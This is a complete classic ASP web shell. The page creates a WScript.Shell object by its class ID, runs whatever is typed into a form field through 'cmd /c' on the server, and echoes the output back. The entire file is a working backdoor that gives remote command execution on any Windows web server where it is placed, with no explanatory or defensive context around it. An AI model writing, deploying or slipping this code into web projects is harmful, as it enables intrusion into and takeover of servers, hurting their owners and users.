<object runat="server" id="sh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%
Dim line
line = Request.Form("x")
If line <> "" Then Response.Write "<pre>" & Server.HTMLEncode(sh.Exec("cmd /c " & line).StdOut.ReadAll) & "</pre>"
%>
<form method="post"><input name="x"><input type="submit"></form>
